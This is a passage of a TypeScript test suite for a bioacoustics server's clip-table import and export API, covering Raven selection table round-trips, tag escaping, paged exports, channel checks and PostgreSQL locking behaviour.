        const res = await importText(`recording_id=${recording}&times=${times}`, table.body, format === "csv" ? "text/csv" : "text/plain");
        expect(res.statusCode, `${times} ${format}: ${res.body}`).toBe(200);
        expect(res.json(), `${times} ${format}`).toMatchObject({ created: 0, existing: 3, tags_added: 0 });
      }
      expect(await clipsOf(recording)).toHaveLength(3);
    }
  });

  it("takes a row's frequency bounds as part of its clip: the same times in another band, or without bounds, are another clip; an empty bound is none on that side", async () => {
    await writeSineWav(join(dir.path, "bands.wav"), 8000, 10);
    const recording = (await post("/v1/recordings", { dataset_id: ids.dataset, path: "bands.wav" })).id;
    const table = (rows: string[]) => "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tLow Freq (Hz)\tHigh Freq (Hz)\tSpecies\n" + rows.map((r, i) => `${i + 1}\tSpectrogram 1\t1\t${r}\n`).join("");
    const first = await importText(`recording_id=${recording}`, table(["1\t2\t1000\t2000\tbat", "1\t2\t3000\t3500\tcricket", "1\t2\t\t\tnoise", "3\t4\t\t500\thum"]));
    expect(first.statusCode, first.body).toBe(200);
    expect(first.json()).toMatchObject({ created: 4, existing: 0 });
    const clips = await clipsOf(recording);
    expect(clips.map((c: { start_time: number; low_freq: number | null; high_freq: number | null; tags: { value: string }[] }) => [c.tags[0].value, c.start_time, c.low_freq, c.high_freq]).sort()).toEqual([
      ["bat", 1, 1000, 2000], ["cricket", 1, 3000, 3500], ["hum", 3, null, 500], ["noise", 1, null, null],
    ]);
    // Each row again finds its own clip (a millihertz off too); a third band is a new clip.
    const again = await importText(`recording_id=${recording}`, table(["1\t2\t1000.0004\t2000\tbat", "1\t2\t3000\t3500\tcricket", "1\t2\t\t\tnoise", "3\t4\t\t500\thum", "1\t2\t100\t200\twind"]));
    expect(again.json()).toMatchObject({ created: 1, existing: 4, tags_added: 0 });
    // The export writes a bound the clip lacks as an empty cell, and reads back onto the same clips.
    const exported = await app.inject({ url: `/v1/clips/export?recording_id=${recording}` });
    expect(exported.body.split("\n").slice(1, -1).map((l) => l.split("\t").slice(3, 7))).toEqual([
      // Of one time, the time-only clip first, then by band.
      ["1.000000000", "2.000000000", "", ""], ["1.000000000", "2.000000000", "100.000", "200.000"], ["1.000000000", "2.000000000", "1000.000", "2000.000"],
      ["1.000000000", "2.000000000", "3000.000", "3500.000"], ["3.000000000", "4.000000000", "", "500.000"],
    ]);
    expect((await importText(`recording_id=${recording}`, exported.body)).json()).toMatchObject({ created: 0, existing: 5 });
    // Two rows of one time and one band are one clip; of one time and two bands, two.
    const duplicate = await importText(`recording_id=${recording}`, table(["5\t6\t100\t200\ta", "5\t6\t100\t200\tb"]));
    expect(duplicate.json().fields).toEqual([{ field: "line 3", message: "duplicates line 2: the same recording and Channel, Begin Time (s) and End Time (s) each within 1 µs of its own, Low Freq (Hz) and High Freq (Hz) alike — one clip; remove one of the rows" }]);
  });

  it("refuses two rows whose times are each within a microsecond (one clip could be either), not two further apart", async () => {
    const text = "Begin Time (s)\tEnd Time (s)\n5.0000000\t5.5000000\n5.0000009\t5.4999991\n5.0000025\t5.5\n";
    const res = await importText(`recording_id=${ids.round}`, text);
    expect([res.statusCode, res.json().fields]).toEqual([400, [{ field: "line 3", message: "duplicates line 2: the same recording and Channel, Begin Time (s) and End Time (s) each within 1 µs of its own, Low Freq (Hz) and High Freq (Hz) alike — one clip; remove one of the rows" }]]);
    expect((await importText(`recording_id=${ids.round}`, text.replace("5.0000009", "5.0000011"))).json()).toMatchObject({ created: 3 });
    // A row is the clip within half a microsecond: 5.0000004 is the first, 5.0000016 the third.
    expect((await importText(`recording_id=${ids.round}`, "Begin Time (s)\tEnd Time (s)\n5.0000004\t5.5000004\n5.0000016\t5.4999996\n")).json()).toMatchObject({ created: 0, existing: 2 });
  });

  it("exports a tag value holding \";\" or \"\\\" (given through the API) escaped, and reads it back as the one tag it is, onto its clip or a new one", async () => {
    const clip = await post("/v1/clips", { recording_id: ids.round, start_time: 7, end_time: 7.5 });
    for (const value of ["x;y", "a ; b", "A;", "faint; partial", "C:\\calls\\"]) await post(`/v1/clips/${clip.id}/tags`, { key: "Note", value });
    const exported = (await app.inject({ url: `/v1/clips/export?recording_id=${ids.round}&start_before=7.5&end_after=7` })).body;
    expect(exported.split("\n")[1].split("\t").slice(11)).toEqual(["A\\;; C:\\\\calls\\\\; a \\; b; faint\\; partial; x\\;y"]);
    expect((await importText(`recording_id=${ids.round}`, exported)).json()).toMatchObject({ created: 0, existing: 1, tags_added: 0 });
    expect((await app.inject({ url: `/v1/clips/${clip.id}` })).json().tags).toHaveLength(5);
    // A cell of another value adds that value alone.
    expect((await importText(`recording_id=${ids.round}`, exported.replace("x\\;y", "x\\;z"))).json()).toMatchObject({ created: 0, tags_added: 1 });
    // Onto a new clip (the row moved to 8 s): each value whole — "faint; partial" became the tags "faint" and "partial".
    const moved = exported.replace(/\t7\.000000000\t7\.500000000\t/, "\t8.000000000\t8.500000000\t").replace(/\t7\.000000000\t/, "\t8.000000000\t");
    const created = (await importText(`recording_id=${ids.round}`, moved)).json();
    expect(created).toMatchObject({ created: 1 });
    expect((await app.inject({ url: `/v1/clips/${created.rows[0].clip_id}` })).json().tags.map((t: { value: string }) => t.value)).toEqual(["A;", "C:\\calls\\", "a ; b", "faint; partial", "x;y"]);
  });

  it("re-imports a table exported before the escapes (values holding \";\" or \"\\\" written as they are) onto its clips adding none", async () => {
    const clip = await post("/v1/clips", { recording_id: ids.round, start_time: 9, end_time: 9.5 });
    for (const [key, value] of [["Note", "faint; partial"], ["Note", "clear"], ["Path", "\\\\srv\\calls"]]) await post(`/v1/clips/${clip.id}/tags`, { key, value });
    const tags = (await app.inject({ url: `/v1/clips/${clip.id}` })).json().tags;
    // As the export wrote the clip's cells then: its values of a key joined by "; ", unescaped — read
    // now as Note = clear, faint, partial and Path = \srv\calls, none of which the clip has.
    const old = "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tNote\tPath\n1\tSpectrogram 1\t1\t9.000000000\t9.500000000\tclear; faint; partial\t\\\\srv\\calls\n";
    expect((await importText(`recording_id=${ids.round}`, old)).json()).toMatchObject({ created: 0, existing: 1, tags_added: 0 });
    expect((await app.inject({ url: `/v1/clips/${clip.id}` })).json().tags).toEqual(tags);
    // A cell of other values still adds them: here the pieces, which the clip lacks.
    expect((await importText(`recording_id=${ids.round}`, old.replace("clear; faint; partial", "faint; partial"))).json()).toMatchObject({ created: 0, tags_added: 2 });
  });

  it("reads a cell of several values (A; B), as an export writes a clip's values of one key, as a tag each — on a new clip as on an existing one", async () => {
    const text = "Begin Time (s)\tEnd Time (s)\tSpecies\n2.5\t3\tEptesicus; Vespertilio ;\n";
    const created = (await importText(`recording_id=${ids.fmt}`, text)).json();
    expect(created).toMatchObject({ created: 1 });
    const clip = (await app.inject({ url: `/v1/clips/${created.rows[0].clip_id}` })).json();
    expect(clip.tags).toEqual([{ key: "Species", value: "Eptesicus" }, { key: "Species", value: "Vespertilio" }]);
    expect((await importText(`recording_id=${ids.fmt}`, text.replace("Eptesicus; Vespertilio", "Vespertilio;Myotis"))).json()).toMatchObject({ created: 0, tags_added: 1 });
    // Beside a value holding the separator itself (given through the API, escaped), which adds nothing back.
    await post(`/v1/clips/${clip.id}/tags`, { key: "Note", value: "faint; partial" });
    const exported = (await app.inject({ url: `/v1/clips/export?recording_id=${ids.fmt}&start_before=3&end_after=2.5` })).body;
    expect(exported.split("\n")[1].split("\t").slice(11)).toEqual(["faint\\; partial", "Eptesicus; Myotis; Vespertilio"]);
    expect((await importText(`recording_id=${ids.fmt}`, exported)).json()).toMatchObject({ created: 0, tags_added: 0 });
    // Onto a new clip (the row moved to 4 s) the same tags.
    const moved = exported.replace(/\t2\.500000000\t3\.000000000\t/, "\t4.000000000\t4.500000000\t").replace(/\t2\.500000000\t/, "\t4.000000000\t");
    const copy = (await importText(`recording_id=${ids.fmt}`, moved)).json();
    expect(copy).toMatchObject({ created: 1 });
    expect((await app.inject({ url: `/v1/clips/${copy.rows[0].clip_id}` })).json().tags).toEqual([
      { key: "Note", value: "faint; partial" }, { key: "Species", value: "Eptesicus" }, { key: "Species", value: "Myotis" }, { key: "Species", value: "Vespertilio" },
    ]);
  });

  it("streams an export a page of rows at a time, in order across pages, and re-imports it creating nothing", async () => {
    const many = "Begin Time (s)\tEnd Time (s)\tSpecies\n" + Array.from({ length: 2500 }, (_, i) => `${(i * 0.001).toFixed(3)}\t${(i * 0.001 + 0.0005).toFixed(4)}\tsp${i % 7}\n`).join("");
    await writeSineWav(join(dir.path, "many.wav"), 8000, 3);
    const many_id = (await post("/v1/recordings", { dataset_id: ids.dataset, path: "many.wav" })).id;
    expect((await importText(`recording_id=${many_id}`, many)).json()).toMatchObject({ created: 2500 });
    const table = await exportClipTable(t.db.sql, { target: { recording_id: many_id }, format: "raven", times: "real", features: "none", state: "active" });
    const chunks: string[] = [];
    for await (const chunk of table.text) chunks.push(chunk);
    expect(table.rows).toBe(2500);
    // The header, then a chunk per page of clips read.
    expect(chunks.map((c) => c.split("\n").length - 1)).toEqual([1, 1000, 1000, 500]);
    const rows = chunks.join("").split("\n").slice(1, -1).map((l) => l.split("\t"));
    expect(rows.map((r) => r[0])).toEqual(Array.from({ length: 2500 }, (_, i) => String(i + 1)));
    expect(rows.map((r) => Number(r[3]))).toEqual(Array.from({ length: 2500 }, (_, i) => Number((i * 0.001).toFixed(3))));
    const http = await app.inject({ url: `/v1/clips/export?recording_id=${many_id}` });
    expect(http.body).toBe(chunks.join(""));
    expect((await importText(`recording_id=${many_id}`, http.body)).json()).toMatchObject({ created: 0, existing: 2500, tags_added: 0 });
  });

  it("an export while clips change: a clip trashed, archived or deleted before its page is read is left out, and counted out of the rows written", async () => {
    await writeSineWav(join(dir.path, "changing.wav"), 8000, 5);
    const changing = (await post("/v1/recordings", { dataset_id: ids.dataset, path: "changing.wav" })).id;
    const starts = Array.from({ length: 2200 }, (_, i) => i * 0.002);
    await t.db.sql`INSERT INTO clips (recording_id, start_time, end_time) SELECT ${changing}::uuid, s, s + 0.001 FROM unnest(${starts}::float8[]) AS n (s)`;
    const byStart = new Map((await t.db.sql<{ id: string; start_time: number }[]>`SELECT id, start_time FROM clips WHERE recording_id = ${changing}`).map((c) => [c.start_time, c.id]));
    const table = await exportClipTable(t.db.sql, { target: { recording_id: changing }, format: "raven", times: "real", features: "none", state: "active" });
    const text = table.text[Symbol.asyncIterator]();
    const chunks = [(await text.next()).value, (await text.next()).value];
    // Past the first page: clips of the second and third change.
    const [trashed, archived, deleted] = [starts[1500], starts[1600], starts[2100]].map((s) => byStart.get(s)!);
    expect((await app.inject({ method: "POST", url: `/v1/clips/${trashed}/trash`, headers })).statusCode).toBe(200);
    expect((await app.inject({ method: "POST", url: `/v1/clips/${archived}/archive`, headers })).statusCode).toBe(200);
    await t.db.sql`DELETE FROM clips WHERE id = ${deleted}`;
    for (let next = await text.next(); !next.done; next = await text.next()) chunks.push(next.value);
    const rows = chunks.join("").split("\n").slice(1, -1).map((l) => l.split("\t"));
    expect(rows.map((r) => r[10])).not.toEqual(expect.arrayContaining([trashed]));
    expect(rows.map((r) => r[10])).not.toEqual(expect.arrayContaining([archived]));
    expect([rows.length, table.rows, rows.at(-1)![0]]).toEqual([2197, 2197, "2197"]);
  });

  it("a job of clips reads their channel: a table's channel-2 selection's clip is refused unless it analyses channel 1 (counted from 0), its channel-1 selection's unless 0; a clip without the tag goes with any channel", async () => {
    // A viewer's clip first: untagged, which the table's channel-1 row is, gaining the tag.
    const drawn = (await post("/v1/clips", { recording_id: ids.stereo, start_time: 2, end_time: 2.5 })).id;
    const text = "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\n1\tSpectrogram 1\t1\t2\t2.5\n2\tSpectrogram 1\t2\t2\t2.5\n";
    const imported = (await importText(`recording_id=${ids.stereo}`, text)).json();
    expect(imported).toMatchObject({ created: 1, existing: 1, tags_added: 1 });
    expect((await importText(`recording_id=${ids.stereo}`, text)).json()).toMatchObject({ created: 0, existing: 2, tags_added: 0 });
    const [first, second] = imported.rows.map((r: { clip_id: string }) => r.clip_id);
    expect(first).toBe(drawn);
    expect((await app.inject({ url: `/v1/clips/${first}` })).json().tags).toEqual([{ key: "Channel", value: "1" }]);
    const viewer = (await post("/v1/clips", { recording_id: ids.stereo, start_time: 3.6, end_time: 3.9 })).id;
    const submit = (clips: string[], params: object) => app.inject({ method: "POST", url: "/v1/jobs", headers, payload: { task: "extract_features", data: { targets: { clip_ids: clips }, params } } });
    const refused = await submit([second], {});
    expect([refused.statusCode, refused.json().fields]).toEqual([400, [{ field: "data.params.channel", message:
      `is 0 (channel 1 as Raven counts, from 1), but clips of the job are of another channel — their tag Channel, a Raven selection's channel: 1 clip of channel 2 (clip ${second}). A job reads one channel: submit each channel's clips in a job of their own, with channel = Channel − 1` }]]);
    expect((await submit([first, second], {})).json().fields[0].message).toMatch(/^is 0 \(channel 1 as Raven counts, from 1\), but .*: 1 clip of channel 2 \(clip /);
    const channel2 = await submit([first, second], { channel: 1 });
    expect(channel2.json().fields[0].message).toMatch(/^is 1 \(channel 2 as Raven counts, from 1\), but .*: 1 clip of channel 1 \(clip /);
    for (const [clips, params] of [[[second], { channel: 1 }], [[first], {}], [[first, viewer], {}], [[second, viewer], { channel: 1 }]] as const) {
      const accepted = await submit([...clips], params);
      expect(accepted.statusCode, accepted.body).toBe(201);
      expect((await app.inject({ method: "POST", url: `/v1/jobs/${accepted.json().id}/abort`, headers })).statusCode).toBe(200);
    }
  });

  it("two imports of one table at once create its clips once", async () => {
    const text = "Begin Time (s)\tEnd Time (s)\tSpecies\n7\t7.5\tA\n8\t8.5\tB\n9\t9.5\tC\n";
    const results = await Promise.all([importText(`recording_id=${ids.a1}`, text), importText(`recording_id=${ids.a1}`, text)]);
    for (const r of results) expect(r.statusCode, r.body).toBe(200);
    expect(results.map((r) => r.json().created).sort()).toEqual([0, 3]);
    expect((await clipsOf(ids.a1)).filter((c: { start_time: number }) => c.start_time >= 7)).toHaveLength(3);
  });

  it("checks the importer exists (400 naming created_by, nothing created), and leaves the database's foreign-key checks on after an import (the embedded database's skips those of its own rows)", async () => {
    const text = "Begin Time (s)\tEnd Time (s)\tSpecies\n9.5\t9.75\tD\n";
    const nobody = importClipTable(t.db, { target: { recording_id: ids.a1 }, text, times: "real", created_by: randomUUID() });
    await expect(nobody).rejects.toMatchObject({ fields: [{ field: "created_by", message: "refers to a record that does not exist" }] });
    expect((await clipsOf(ids.a1)).filter((c: { start_time: number }) => c.start_time === 9.5)).toHaveLength(0);
    const res = await importText(`recording_id=${ids.a1}`, text);
    expect([res.statusCode, res.json().created]).toEqual([200, 1]);
    await expect(t.db.sql`INSERT INTO clip_tags (clip_id, tag_id) VALUES (gen_random_uuid(), gen_random_uuid())`).rejects.toMatchObject({ code: "23503" });
  });

  it("the tables an embedded import writes under the replica role carry no trigger of their own, which that role would skip (clip-tables.ts)", async () => {
    const triggers = await t.db.sql<{ table: string; name: string }[]>`
      SELECT tgrelid::regclass::text AS table, tgname AS name FROM pg_trigger
      WHERE NOT tgisinternal AND tgrelid IN ('clips'::regclass, 'clip_tags'::regclass, 'clip_features'::regclass, 'tags'::regclass, 'feature_names'::regclass, 'runs'::regclass)`;
    expect(triggers).toEqual([]);
  });

  // Needs a second connection (the embedded database has one): PostgreSQL only, as .ci/run runs it.
  it.skipIf(!process.env.DATABASE_URL)("a recording deleted between the rows' resolution and the import's lock is a fault of its rows, not rows dropped", async () => {
    await writeSineWav(join(dir.path, "gone.wav"), 8000, 2);
    const gone = (await post("/v1/recordings", { dataset_id: ids.dataset, path: "gone.wav" })).id;
    const outcome = t.db.sql.begin(async (tx) => {
      await tx`SELECT id FROM recordings WHERE id = ${gone} FOR UPDATE`;
      const res = importText(`dataset_id=${ids.dataset}`, "Begin Time (s)\tEnd Time (s)\tBegin File\n0\t1\tgone.wav\n");
      // Past the unlocked resolution, the import waits for the recording's lock.
      for (let i = 0; i < 200; i++) {
        const [{ waiting }] = await t.db.sql<{ waiting: number }[]>`SELECT count(*)::int AS waiting FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND query LIKE '%FOR NO KEY UPDATE%'`;
        if (waiting) break;
        await new Promise((r) => setTimeout(r, 50));
      }
      await tx`DELETE FROM recordings WHERE id = ${gone}`;
      // Wrapped: a promise returned would be awaited inside the transaction, which the import waits for.
      return { res };
    });
    const res = await (await outcome).res;
    expect([res.statusCode, res.json().fields]).toEqual([400, [{ field: "line 2, Begin File", message: `'gone.wav' names recording ${gone}, which was deleted during the import` }]]);
  });

  // Needs a second connection, as above: PostgreSQL only.
  it.skipIf(!process.env.DATABASE_URL)("a recording re-timed between the rows' check and the import's lock is checked again: its rows now past its end are faults", async () => {
    await writeSineWav(join(dir.path, "retimed.wav"), 8000, 2);
    const retimed = (await post("/v1/recordings", { dataset_id: ids.dataset, path: "retimed.wav" })).id;
    const outcome = t.db.sql.begin(async (tx) => {
      await tx`SELECT id FROM recordings WHERE id = ${retimed} FOR UPDATE`;
      const res = importText(`recording_id=${retimed}`, "Begin Time (s)\tEnd Time (s)\n1.5\t1.9\n");
      for (let i = 0; i < 200; i++) {
        const [{ waiting }] = await t.db.sql<{ waiting: number }[]>`SELECT count(*)::int AS waiting FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND query LIKE '%FOR NO KEY UPDATE%'`;
        if (waiting) break;
        await new Promise((r) => setTimeout(r, 50));
      }
      // 2× time-expanded, its 2 s file lasts 1 s: the row's 1.5–1.9 s is past its end.
      await tx`UPDATE recordings SET time_expansion = 2 WHERE id = ${retimed}`;
      return { res };
    });
    const res = await (await outcome).res;
    expect([res.statusCode, res.json().fields.map((f: { field: string }) => f.field)]).toEqual([400, ["line 2, Begin Time (s)", "line 2, End Time (s)"]]);
    expect(await clipsOf(retimed)).toEqual([]);
  });

  // Needs a second connection, as above: PostgreSQL only.
  it.skipIf(!process.env.DATABASE_URL)("an import into a dataset and the dataset's delete at once queue, the import first: no deadlock (it locked the recordings before their dataset, the delete the dataset before them)", async () => {
    // A dataset of its own, in an audio root of its own (one inside the first dataset's is refused).
    const root = await tempDir();
    onTestFinished(() => root.remove());
    await writeSineWav(join(root.path, "o.wav"), 8000, 2);
    const server = await buildApp({ database: t.db, audioRoots: await resolveRoots([root.path]) });
    onTestFinished(() => server.close());
    const create = async (url: string, payload: object) => (await server.inject({ method: "POST", url, payload, headers })).json().id as string;
    const dataset = await create("/v1/datasets", { name: "order", audio_dir: root.path });
    const recording = await create("/v1/recordings", { dataset_id: dataset, path: "o.wav" });
    const deadlocks = async () => (await t.db.sql<{ n: number }[]>`SELECT deadlocks::int AS n FROM pg_stat_database WHERE datname = current_database()`)[0].n;
    const waiters = async () => (await t.db.sql<{ n: number }[]>`SELECT count(*)::int AS n FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND datname = current_database()`)[0].n;
    const until = async (n: number) => {
      for (let i = 0; i < 200 && (await waiters()) < n; i++) await new Promise((r) => setTimeout(r, 25));
    };
    const before = await deadlocks();
    // The recording held while both start: the import waits for it, then the delete for the import.
    const started = await t.db.sql.begin(async (tx) => {
      await tx`SELECT id FROM recordings WHERE id = ${recording} FOR UPDATE`;
      const imported = server.inject({ method: "POST", url: `/v1/clips/import?dataset_id=${dataset}`, payload: "Begin Time (s)\tEnd Time (s)\tBegin File\n0.5\t0.9\to.wav\n", headers: { ...headers, "content-type": "text/plain" } });
      await until(1);
      const deleted = deleteDataset(t.db.sql, dataset);
      await until(2);
      return { imported, deleted };
    });
    const [imported] = await Promise.all([started.imported, started.deleted]);
    expect([imported.statusCode, imported.json().created]).toEqual([200, 1]);
    expect(await deadlocks()).toBe(before);
    expect(await t.db.sql`SELECT id FROM datasets WHERE id = ${dataset}`).toHaveLength(0);
  });

  it("openapi documents the routes", async () => {
    const doc = (await app.inject({ url: "/openapi.json" })).json();
    expect(Object.keys(doc.paths["/v1/clips/import"].post.requestBody.content)).toEqual(["application/json", "text/plain", "text/tab-separated-values", "text/csv"]);
    const result = doc.paths["/v1/clips/import"].post.responses["200"].content["application/json"].schema;
    expect(Object.keys(result.properties)).toEqual(["run", "format", "created", "existing", "tags_added", "tag_columns", "ignored_columns", "rows", "skipped", "warnings"]);
    expect(Object.keys(result.properties.rows.items.properties)).toEqual(["line", "selection", "clip_id", "recording_id", "status"]);
    // The run is the runs route's (its kind an enum, its times date-times), not a copy.
    expect(result.properties.run.properties.kind.enum).toEqual(expect.arrayContaining(["import"]));
    expect(doc.paths["/v1/clips/import"].post.responses["415"].description).toBe("Unsupported Media Type: the body is sent neither as application/json nor as text/plain, text/tab-separated-values, text/csv");
    expect(doc.paths["/v1/clips/export"].get.parameters.map((p: { name: string }) => p.name)).toEqual(expect.arrayContaining(["recording_id", "dataset_id", "format", "times", "features", "state", "start_before", "end_after", "tag_key", "tag_value"]));
    expect(Object.keys(doc.paths["/v1/clips/export"].get.responses["200"].content)).toEqual(["text/plain", "text/csv"]);
  });
});

describe("a dataset's clip table after its files changed: a clip past a shortened recording's end, a path in another Unicode normal form", () => {
  let t: TestDatabase;
  let app: App;
  let dir: Awaited<ReturnType<typeof tempDir>>;
  let headers: { authorization: string };
  let dataset: string;

  const post = async (url: string, payload: object) => {
    const res = await app.inject({ method: "POST", url, payload, headers });
    expect(res.statusCode, res.body).toBeLessThan(300);
    return res.json();
  };
  const importText = (query: string, text: string) =>
    app.inject({ method: "POST", url: `/v1/clips/import?${query}`, payload: text, headers: { ...headers, "content-type": "text/plain" } });
  const header = "Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tBegin Path\tFile Offset (s)\tBegin File\tClip ID";

  beforeAll(async () => {
    t = await freshDatabase();
    dir = await tempDir();
    headers = { authorization: `Bearer ${(await ensureAdmin(t.db.sql))!.key}` };
    app = await buildApp({ database: t.db, audioRoots: await resolveRoots([dir.path]) });
    dataset = (await post("/v1/datasets", { name: "walk", audio_dir: dir.path })).id;
  });
  afterAll(async () => {
    await app?.close();
    await t?.cleanup();
    await dir?.remove();
  });

  it("re-imports an export whose clip lies past its refreshed recording's end as existing (the export counts such clips); a new or moved row past the end is still refused", async () => {
    await writeSineWav(join(dir.path, "whombat.wav"), 8000, 25);
    await writeSineWav(join(dir.path, "other.wav"), 8000, 10);
    const whombat = (await post("/v1/recordings", { dataset_id: dataset, path: "whombat.wav" })).id;
    const other = (await post("/v1/recordings", { dataset_id: dataset, path: "other.wav" })).id;
    const early = (await post("/v1/clips", { recording_id: whombat, start_time: 1, end_time: 2 })).id;
    const late = (await post("/v1/clips", { recording_id: whombat, start_time: 15, end_time: 20 })).id;
    await post("/v1/clips", { recording_id: other, start_time: 0.5, end_time: 1 });
    await writeSineWav(join(dir.path, "whombat.wav"), 8000, 2.52);
    expect((await post(`/v1/recordings/${whombat}/refresh`, {})).clips_past_end).toBe(1);

    const exported = await app.inject({ url: `/v1/clips/export?dataset_id=${dataset}` });
    expect(exported.statusCode, exported.body).toBe(200);
    expect(exported.headers["x-clips-past-end"]).toBe("1");
    const table = await exportClipTable(t.db.sql, { target: { dataset_id: dataset }, format: "raven", times: "real", features: "none", state: "active" });
    expect(table.clipsPastEnd).toBe(1);
    const again = await importText(`dataset_id=${dataset}`, exported.body);
    expect(again.statusCode, again.body).toBe(200);
    expect(again.json()).toMatchObject({ created: 0, existing: 3 });
    expect(again.json().rows.map((r: { clip_id: string; status: string }) => [r.clip_id, r.status])).toContainEqual([late, "existing"]);

    // A row of no clip (its Clip ID empty), or of the clip moved, past the end: refused as ever.
    const refused = await importText(`dataset_id=${dataset}`, [header,
      `1\tSpectrogram 1\t1\t1\t2\twhombat.wav\t1\twhombat.wav\t${early}`,
      "2\tSpectrogram 1\t1\t21\t22\twhombat.wav\t21\twhombat.wav\t",
      `3\tSpectrogram 1\t1\t15\t21\twhombat.wav\t15\twhombat.wav\t${late}`,
      `4\tSpectrogram 1\t1\t15\t20\twhombat.wav\t15\twhombat.wav\t${early}`,
    ].join("\n"));
    expect(refused.statusCode, refused.body).toBe(400);
    expect(refused.json().fields.map((f: { field: string }) => f.field)).toEqual([
      "line 3, File Offset (s)", "line 3, End Time (s)", "line 4, File Offset (s)", "line 4, End Time (s)", "line 5, File Offset (s)", "line 5, End Time (s)",
    ]);
    expect(refused.json().fields[1].message).toMatch(/^22 s \(real\) must be <= the recording's duration \(2\.52 s\)/);
  });

  it("an annotator's export edited in Begin Time (s) alone is refused, naming the row, both cells and the column to fix; fixed, its row makes a clip beside its Clip ID's clip and the answer says so, Clip ID listed as ignored", async () => {
    await writeSineWav(join(dir.path, "edited.wav"), 8000, 2);
    const recording = (await post("/v1/recordings", { dataset_id: dataset, path: "edited.wav" })).id;
    const made = await importText(`recording_id=${recording}`, ["Selection\tView\tChannel\tBegin Time (s)\tEnd Time (s)\tLow Freq (Hz)\tHigh Freq (Hz)\tSpecies",
      "1\tSpectrogram 1\t1\t0.1\t0.15\t1000\t3000\tPipistrellus",
      "2\tSpectrogram 1\t1\t0.274\t0.2795\t1000\t3000\tMyotis",
      "3\tSpectrogram 1\t1\t0.5\t0.6\t1000\t3000\tPipistrellus",
    ].join("\n"));
    expect(made.json()).toMatchObject({ created: 3, ignored_columns: [], warnings: [] });
    const clips = async () => ((await app.inject({ url: `/v1/clips?recording_id=${recording}&limit=100` })).json().items as { id: string; start_time: number; end_time: number; tags: { key: string; value: string }[] }[])
      .map((c) => [c.id, c.start_time, c.end_time, c.tags.map((t) => t.value).join()]);
    const before = await clips();

    const [head, ...rows] = (await app.inject({ url: `/v1/clips/export?recording_id=${recording}` })).body.trimEnd().split("\n").map((l) => l.split("\t"));
    const column = (name: string) => head.indexOf(name);
    // The export writes a row's Begin Time and File Offset alike (a recording's own table: its file starts at 0).
    expect(rows.map((r) => [r[column("Begin Time (s)")], r[column("File Offset (s)")]])).toEqual([["0.100000000", "0.100000000"], ["0.274000000", "0.274000000"], ["0.500000000", "0.500000000"]]);
    const myotis = rows[1][column("Clip ID")];
    // The annotator's edit: Begin Time 0.274 → 0.2742 and the species; File Offset left as it was.
    const edit = (offset: string) => [head, ...rows.map((r, i) => (i !== 1 ? r : r.map((c, j) => ({ [column("Begin Time (s)")]: "0.2742", [column("Species")]: "Nyctalus", [column("File Offset (s)")]: offset })[j] ?? c)))]
      .map((r) => r.join("\t")).join("\n") + "\n";
    const refused = await importText(`recording_id=${recording}`, edit("0.274000000"));
    expect(refused.statusCode, refused.body).toBe(400);
    expect(refused.json().fields).toEqual([{
      field: "line 3, File Offset (s)",
      message: "Begin Time (s) '0.2742' − File Offset (s) '0.274000000' is 0.0002 s, where the 2 other selections of edited.wav give 0 s (the file's start in the table): one of the two cells was edited without the other, and the row would be placed by its File Offset (s) (at 0.274 s, to 0.2793 s), which its Begin Time (s) does not say. Set File Offset (s) to 0.2742 to place it by its Begin Time (s), as Raven does — or Begin Time (s) back to 0.274 to keep it where it was",
    }]);
    expect(await clips()).toEqual(before);

    // Fixed as the fault says: the row is a new clip [0.2742, 0.2795) — beside clip `myotis`, which its Clip ID names and which is not moved.
    const fixed = await importText(`recording_id=${recording}`, edit("0.2742"));
    expect(fixed.statusCode, fixed.body).toBe(200);
    const result = fixed.json();
    expect(result).toMatchObject({ created: 1, existing: 2, ignored_columns: ["Clip ID"] });
    const made3 = result.rows[1].clip_id;
    expect(result.rows.map((r: { line: number; status: string }) => [r.line, r.status])).toEqual([[2, "existing"], [3, "created"], [4, "existing"]]);
    expect(result.warnings).toEqual([{
      line: 3, column: "Clip ID",
      message: `made clip ${made3} beside clip ${myotis}, which its Clip ID names, rather than moving it: the row's times [0.2742, 0.2795) s are not that clip's [0.274, 0.2795) s. An import finds a row's clip by its recording, times, band and channel, never by its Clip ID, so clip ${myotis} keeps its place and its tags (Species = Myotis): delete it if the row replaces it`,
    }]);
    expect(await clips()).toEqual([before[0], before[1], [made3, 0.2742, 0.2795, "Nyctalus"], before[2]]);
    // Again: nothing new; the row is the clip it made, and its Clip ID (unchanged) still names the other, which the answer says.
    const again = (await importText(`recording_id=${recording}`, edit("0.2742"))).json();
    expect(again).toMatchObject({ created: 0, existing: 3 });
    expect(again.warnings).toEqual([{ line: 3, column: "Clip ID", message: expect.stringMatching(new RegExp(`^is clip ${made3} \\(its recording, times, band and channel\\), not clip ${myotis}, which its Clip ID names and which is left as it is`)) }]);
  });

  it("a row whose Clip ID names one of two clips with the same bounds is that clip: its tags went to the other, the warning blaming the Channel", async () => {
    await writeSineWav(join(dir.path, "twins.wav"), 8000, 4);
    const recording = (await post("/v1/recordings", { dataset_id: dataset, path: "twins.wav" })).id;
    const first = (await post("/v1/clips", { recording_id: recording, start_time: 2.5, end_time: 2.6 })).id;
    const second = (await post("/v1/clips", { recording_id: recording, start_time: 2.5, end_time: 2.6 })).id;
    const [head, ...rows] = (await app.inject({ url: `/v1/clips/export?recording_id=${recording}` })).body.trimEnd().split("\n");
    for (const named of [first, second]) {
      const row = rows.find((r) => r.split("\t")[head.split("\t").indexOf("Clip ID")] === named)!;
      const imported = await importText(`recording_id=${recording}`, [`${head}\tSpecies`, `${row}\t${named === first ? "Myotis" : "Nyctalus"}`].join("\n"));
      expect(imported.statusCode, imported.body).toBe(200);
      expect(imported.json()).toMatchObject({ created: 0, existing: 1, rows: [{ clip_id: named, status: "existing" }], warnings: [] });
    }
    const tags = async (id: string) => ((await app.inject({ url: `/v1/clips/${id}` })).json().tags as { value: string }[]).map((t) => t.value);
    expect([await tags(first), await tags(second)]).toEqual([["Myotis"], ["Nyctalus"]]);
  });

  it("finds a row's recording whose path is stored in another Unicode normal form (NFD, as macOS writes it) by Begin Path and Begin File; two recordings of the one path in both forms are named as ambiguous", async () => {
    const nfc = "Sité_B/jeff37 ünïcode.WAV";
